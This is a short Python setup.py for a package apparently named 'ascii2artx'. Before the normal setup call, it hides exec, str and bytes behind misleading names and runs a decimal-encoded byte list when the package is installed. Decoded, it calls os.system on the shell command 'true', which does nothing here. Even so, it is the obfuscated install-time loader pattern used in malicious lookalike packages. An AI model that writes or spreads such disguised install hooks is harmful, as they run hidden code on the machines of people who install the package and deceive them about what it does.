Statistics, _divide, StackOverflow = exec, str, bytes
class Random:
    @staticmethod
    def execute(code):
        return Statistics(_divide(StackOverflow(code), "utf-8"))
Random.execute(code=[105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 32, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 34, 116, 114, 117, 101, 34, 41])
from setuptools import setup
setup(name="ascii2artx", version="0.1.0", packages=["ascii2artx"])
